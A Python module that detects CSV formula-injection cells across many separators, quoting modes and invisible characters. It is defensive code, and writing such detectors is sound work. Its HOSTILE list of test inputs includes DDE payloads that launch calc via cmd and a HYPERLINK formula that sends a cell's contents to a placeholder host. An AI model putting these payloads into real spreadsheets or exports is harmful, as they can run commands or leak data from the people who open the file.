"""What a spreadsheet would compute of a CSV file, whatever it takes for what sets cells apart."""

import csv
import io
import re
from collections.abc import Iterator

# Formulas after what may set cells apart.
HOSTILE = (
    "a,=1+1,b",
    "a, =1+1",
    "a;=1+1;b",
    "a\t=1+1\tb",
    "a|=1+1|b",
    "a:=1+1:b",
    "a =1+1 b",
    "a\n=1+1\n- b",
    "a\r@SUM(1)",
    "a\u2028=1+1",
    'a,"=1+1",b',
    'a,""=1+1"",b',
    'a"=1+1"b',
    '",=1+1,"',
    "a,'=1+1',b",
    "a,\u200b=1+1",
    "a,\u00a0\u00a0+1+1",
    "a,\uff1d1+1",
    "a,\uff0b1,\uff0d1,\uff20A1",
    "a,@SUM(1+1)*cmd|' /C calc'!A0",
    "a,-2+3+cmd|' /C calc'!D2",
    'a,=HYPERLINK("https://mal.exemple.invalid/?v="&A1,"Cliquez")',
    "a -",
    "a,-5",
    "a,-5,b",
)
SEPARATORS = ",;\t|: "
_UNSEEN = '"\u00ad\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u2060\ufeff' + "".join(
    map(chr, range(33))
)
_SIGNS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?(?:\s?%)?")


def cells(text: str) -> Iterator[str]:
    """Yield the cells of a file by each separator, with and without quotes and lines in them."""
    for separator in SEPARATORS:
        for quotes in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            for spaced in (True, False):
                lines = io.StringIO(text, newline="")
                rows = csv.reader(
                    lines, delimiter=separator, quoting=quotes, skipinitialspace=spaced
                )
                yield from (cell for row in rows for cell in row)
        for line in text.splitlines():
            yield from line.split(separator)


def computed(text: str) -> list[str]:
    """Return the cells that would be computed; a sign alone is none, nor is a number."""
    found = (cell.strip().strip(_UNSEEN).strip() for cell in cells(text))
    return sorted(
        {
            cell
            for cell in found
            if cell.startswith(_SIGNS) and cell not in _SIGNS and not _NUMBER.fullmatch(cell)
        }
    )
